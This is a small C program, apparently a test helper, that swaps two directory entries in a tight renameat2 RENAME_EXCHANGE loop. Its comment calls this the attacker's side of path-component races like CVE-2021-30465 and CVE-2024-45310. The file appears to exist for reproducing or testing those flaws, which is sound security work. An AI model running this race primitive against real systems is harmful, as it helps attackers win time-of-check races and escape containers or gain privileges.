/*
 * swap PATH OTHER
 *
 * Exchanges two directory entries for ever, as fast as the kernel can (renameat2(2), RENAME_EXCHANGE): the attacker's part
 * in a race on a path component, such as CVE-2021-30465 and CVE-2024-45310. Ends by a signal, always with the entries as
 * they were first.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int signal)
{
	(void)signal;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: swap PATH OTHER\n");
		return 125;
	}
	signal(SIGTERM, on_signal);
	for (unsigned long swaps = 0; !stop || swaps % 2; swaps++) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
			fprintf(stderr, "swap: %s: %s\n", argv[1], strerror(errno));
			return 125;
		}
	}
	return 0;
}
